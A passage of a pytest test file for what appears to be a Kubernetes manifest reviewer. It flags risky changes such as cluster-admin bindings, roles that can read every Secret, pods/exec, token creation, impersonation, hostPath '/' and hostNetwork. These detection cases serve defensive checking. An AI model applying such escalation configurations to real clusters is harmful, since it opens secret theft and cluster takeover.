    container = {"name": "router", "image": "v1", "args": args}
    spec = {"selector": {}, "template": {"metadata": {}, "spec": {"containers": [container]}}}
    return _item("Deployment", "apps/v1", spec=spec)


def _tiered(tier: str, **labels: str) -> Object:
    spec = {"containers": [{"name": "c", "image": "v1"}]}
    return _item("Pod", "v1", {"name": "p", "labels": {"tier": tier, **labels}}, spec=spec)


@pytest.mark.parametrize(
    ("more", "pods", "is_told"),
    [
        ((), (None, _tiered("engines")), True),
        ((), (_tiered("other"), _tiered("engines")), True),
        ((), (_tiered("engines"), _tiered("engines", other="label")), False),
        ((), (None, _tiered("other")), False),
        (("--k8s-service-discovery-type", "service-name"), (None, _tiered("engines")), False),
    ],
)
def test_pods_without_an_engine_that_a_router_finds(
    more: tuple[str, ...], pods: Any, is_told: bool, review: Any
) -> None:
    said = "its pods get requests of Deployment/x, which others answered alone"
    assert _told(review(pods, stays=[_router(*more)])) == ([("warning", said)] if is_told else [])


def test_what_takes_over_from_a_workload_joins_nothing(review: Any, deployment: Build) -> None:
    assert not _told(review((deployment(), None), (None, _joined("llama")), stays=[_behind(**LLAMA)]))


def test_a_policy_of_the_api_server_that_goes_is_told(review: Any) -> None:
    item = _item("ValidatingAdmissionPolicyBinding", "admissionregistration.k8s.io/v1", spec={"policyName": "p"})
    told = "it goes: what it changed or refused is written to the cluster as it stands"
    assert _told(review((item, None))) == [("warning", told)]


def test_a_volume_of_the_host_is_told(review: Any) -> None:
    volume = {
        "apiVersion": "v1",
        "kind": "PersistentVolume",
        "metadata": {"name": "v"},
        "spec": {"hostPath": {"path": "/"}},
    }
    assert _told(review((None, volume))) == [("warning", "pods that claim it get the host's `/`")]


def _namespace(**labels: str) -> Object:
    prefixed = {f"pod-security.kubernetes.io/{name}": level for name, level in labels.items()}
    return {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "llm", "labels": prefixed}}


@pytest.mark.parametrize(
    ("before", "after", "is_told"),
    [
        (_namespace(enforce="restricted"), _namespace(enforce="baseline"), True),
        (_namespace(enforce="baseline"), _namespace(audit="baseline"), True),
        (_namespace(enforce="baseline"), _namespace(enforce="restricted"), False),
        (_namespace(), _namespace(enforce="privileged"), False),
        (None, _namespace(), False),
    ],
)
def test_a_namespace_that_lets_in_more_pods_is_told(before: Any, after: Any, is_told: bool, review: Any) -> None:
    assert bool(_told(review((before, after)))) is is_told


@pytest.mark.parametrize("odd", [[{}], [None], [[]], "x", 5])
def test_odd_capabilities_end_no_review(odd: Any, review: Any, deployment: Build) -> None:
    context = {"capabilities": {"add": odd}, "seLinuxOptions": {"type": odd}}
    review(
        (deployment(), _with(deployment(), {"securityContext": {"sysctls": [{"name": odd}]}}, securityContext=context))
    )


@pytest.mark.parametrize(
    "argument", ["--trust-remote-code=false", "--no-trust-remote-code", "--trust-request-chat-template"]
)
def test_code_that_is_not_trusted(argument: str, review: Any, deployment: Build) -> None:
    assert not _told(review((deployment(), _with(deployment(), args=[argument]))))


def test_what_is_renamed_gets_nothing(review: Any, deployment: Build) -> None:
    old = _with(deployment("old"), {"hostNetwork": True})
    old["metadata"]["labels"] = {}
    moved = deepcopy(old)
    moved["metadata"]["namespace"] = "elsewhere"
    assert not _told(review((old, None), (None, moved)))
    other = _with(deployment("other"), {"hostNetwork": True})
    assert _told(review((None, other), stays=[deployment("old")])) == [("warning", "its pods get `hostNetwork: true`")]


@pytest.mark.parametrize(
    ("models", "kinds", "said"),
    [(("a", "a"), 1, False), (("a", "b"), 1, True), ((None, None), 1, True), (("a", "a"), 2, True)],
)
def test_what_serves_the_model_of_what_goes_gets_nothing(
    models: tuple[str | None, str | None], kinds: int, said: bool, review: Any, deployment: Build
) -> None:
    old, new = (_with(deployment(name), {"hostNetwork": True}) for name in ("old", "new"))
    for each, model in zip((old, new), models, strict=True):
        each["metadata"]["labels"] = {"model": model} if model else {}
    if kinds == 2:
        new["kind"] = "StatefulSet"
    assert bool(_told(review((old, None), (None, new)))) is said


def test_a_first_environment_has_no_registry_to_compare(review: Any, deployment: Build) -> None:
    assert not _told(review((None, deployment(image="registry.example.com/vllm:v1"))))


def _binding(role: str, *names: str) -> Object:
    subjects = [{"kind": "ServiceAccount", "name": name, "namespace": "llm"} for name in names]
    head = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": "b"}}
    return {**head, "roleRef": {"kind": "ClusterRole", "name": role}, "subjects": subjects}


@pytest.mark.parametrize(
    ("before", "after", "severity"),
    [
        (None, _binding("view", "a"), "warning"),
        (None, _binding("cluster-admin", "a"), "error"),
        (_binding("view", "a"), _binding("view", "a", "b"), "warning"),
        (_binding("view", "a"), _binding("cluster-admin", "a"), "error"),
        (_binding("view", "a"), {**_binding("view", "a"), "metadata": {"name": "b", "labels": {"a": "b"}}}, None),
        (_binding("view", "a"), None, None),
    ],
)
def test_rights_of_the_whole_cluster_that_come(before: Any, after: Any, severity: str | None, review: Any) -> None:
    assert [said for said, _ in _told(review((before, after)))] == ([severity] if severity else [])


def role(verbs: str = "get", resources: str = "secrets", groups: str = "", **rule: Any) -> Object:
    found = {"verbs": ["delete", verbs], "resources": ["pods", resources], "apiGroups": ["apps", groups], **rule}
    metadata = {"name": "r", "namespace": "serving"}
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": metadata, "rules": [found]}


@pytest.mark.parametrize(
    ("item", "is_told"),
    [
        (role(), True),
        (role("list"), True),
        (role("watch"), True),
        (role("*"), True),
        (role(resources="*"), True),
        (role(groups="*"), True),
        (role("delete"), False),
        (role(resources="configmaps"), False),
        (role(groups="batch"), False),
        (role(resourceNames=["hf-token"]), False),
        (role(verbs="get") | {"rules": "x"}, False),
    ],
)
def test_a_role_of_a_unit_that_lets_read_all_secrets_is_told(item: Object, is_told: bool, review: Any) -> None:
    said = "it lets whom it is bound to read every Secret of its namespace"
    assert [message.startswith(said) for _, message in _told(review((None, item)))] == ([True] if is_told else [])
    assert not _told(review((item, item | {"metadata": item["metadata"] | {"labels": {"a": "b"}}})))


@pytest.mark.parametrize(
    ("rule", "power"),
    [
        ({"resources": ["pods"], "verbs": ["create"]}, "run pods of its own there"),
        ({"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["patch"]}, "run pods of its own there"),
        ({"apiGroups": ["batch"], "resources": ["*"], "verbs": ["create"]}, "run pods of its own there"),
        ({"resources": ["pods/exec"], "verbs": ["create"]}, "run commands in pods"),
        ({"resources": ["*/exec"], "verbs": ["create"]}, "run commands in pods"),
        ({"apiGroups": ["argoproj.io"], "resources": ["workflows"], "verbs": ["create"]}, "run pods of its own there"),
        (
            {"apiGroups": ["kustomize.toolkit.fluxcd.io"], "resources": ["kustomizations"], "verbs": ["patch"]},
            "apply objects with the rights of the sync tool",
        ),
        ({"resources": ["pods/ephemeralcontainers"], "verbs": ["patch"]}, "run commands in pods"),
        ({"resources": ["serviceaccounts/token"], "verbs": ["create"]}, "get tokens of service accounts"),
        ({"resources": ["serviceaccounts"], "verbs": ["impersonate"]}, "act as somebody else"),
        ({"apiGroups": ["rbac.authorization.k8s.io"], "resources": ["roles"], "verbs": ["bind"]}, "give more than it has"),
        ({"resources": ["pods"], "verbs": ["get", "list", "watch", "patch", "delete"]}, ""),
        ({"resources": ["pods/log", "configmaps", "endpoints"], "verbs": ["*"]}, ""),
        ({"apiGroups": ["apps"], "resources": ["deployments/scale"], "verbs": ["patch"]}, ""),
        ({"apiGroups": ["x.example.com"], "resources": ["pods"], "verbs": ["create"]}, ""),
        ({"resources": ["pods/exec"], "verbs": ["create"], "resourceNames": ["a"]}, ""),
    ],
)  # fmt: skip
def test_a_role_that_leads_further_than_it_says_is_told(rule: Object, power: str, review: Any) -> None:
    item = role() | {"rules": [{"apiGroups": [""]} | rule]}
    assert _told(review((None, item))) == ([("warning", f"it lets whom it is bound to {power}")] if power else [])


def _bound(kind: str, name: str, subject: str = "a") -> Object:
    head = {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "RoleBinding",
        "metadata": {"name": "b", "namespace": "x"},
    }
    subjects = [{"kind": "Group", "name": subject}]
    return {**head, "roleRef": {"kind": kind, "name": name}, "subjects": subjects}


@pytest.mark.parametrize(
    ("binding", "is_told"),
    [
        (_bound("ClusterRole", "admin"), True),
        (_bound("ClusterRole", "view"), False),
        (_bound("Role", "own"), False),
        (_bound("Role", "r"), True),
        (_bound("Role", "own", "system:authenticated"), True),
    ],
)
def test_a_binding_of_a_unit_that_gives_much_is_told(binding: Object, is_told: bool, review: Any) -> None:
    assert bool(_told(review((None, binding), stays=[role()]))) is is_told


def test_odd_bindings_and_labels_end_no_review(review: Any) -> None:
    binding, namespace = _bound("Role", "r"), _namespace()
    odd: list[Any] = [{}, [], None, 5, [[]], [{"name": {}}]]
    for each in odd:
        review((None, binding | {"roleRef": {"kind": each, "name": each}, "subjects": each}), stays=[role()])
        review((None, role() | {"rules": [{"verbs": each, "resources": each, "apiGroups": [each]}, each]}))
        named = {"name": "llm", "labels": {"pod-security.kubernetes.io/enforce": each}}
        review((namespace, namespace | {"metadata": named}))


@pytest.mark.parametrize(
    ("kind", "group"),
    [("MutatingWebhookConfiguration", "admissionregistration"), ("APIService", "apiregistration"), ("CertificateSigningRequest", "certificates")],
)  # fmt: skip
def test_what_stands_before_the_api_is_told(kind: str, group: str, review: Any) -> None:
    item = {"apiVersion": f"{group}.k8s.io/v1", "kind": kind, "metadata": {"name": "w"}, "spec": {"a": 1}}
    assert len(_told(review((None, item)))) == 1
    assert len(_told(review((item, item | {"spec": {"a": 2}})))) == 1
    assert not _told(review((item, item | {"metadata": {"name": "w", "labels": {"a": "b"}}})))


def test_a_role_that_is_added_to_others_is_told(review: Any) -> None:
    plain = role() | {"kind": "ClusterRole"}
    added = plain | {
        "metadata": plain["metadata"] | {"labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"}}
    }
    assert len(_told(review((plain, added)))) == 1


@pytest.mark.parametrize(
    ("name", "value", "said"),
    [
        ("iam.amazonaws.com/role", "admin", "the cloud's role `admin`"),
        ("vault.hashicorp.com/role", "admin", "what a vault shows the role `admin`"),
        ("k8s.v1.cni.cncf.io/networks", "host-net", "the network `host-net`"),
        ("sidecar.istio.io/inject", "false", "a place outside the mesh"),
        ("sidecar.istio.io/inject", "true", ""),
        ("vault.hashicorp.com/agent-inject", "true", ""),
        ("prometheus.io/scrape", "true", ""),
    ],
)
@pytest.mark.parametrize("field", ["annotations", "labels"])
def test_what_labels_and_annotations_of_pods_ask_for(
    field: str, name: str, value: str, said: str, review: Any, deployment: Build
) -> None:
    asking = deepcopy(deployment())
    metadata = asking["spec"]["template"].setdefault("metadata", {})
    metadata[field] = {**metadata.get(field, {}), name: value}
    told = _told(review((deployment(), asking)))
    assert [message.startswith(f"its pods get {said} (") or said in message for _, message in told] == [True] * bool(
        said
    )


@pytest.mark.parametrize(
    ("value", "told"), [("unconfined", True), ("runtime/default", False), ("localhost/strict", False), ("", False)]
)
def test_apparmor_of_old_is_a_right_like_its_field(value: str, told: bool, review: Any, deployment: Build) -> None:
    """k8s.io/pod-security-admission, policy/check_appArmorProfile.go: the annotation counts as the field does."""
    plain = deployment()
    changed = deepcopy(plain)
    name = "container.apparmor.security.beta.kubernetes.io/vllm"
    changed["spec"]["template"].setdefault("metadata", {})["annotations"] = {name: value}
    expected = [("warning", f"its pods get `{name}: {value}`")] if told else []
    assert _told(review((plain, changed))) == expected
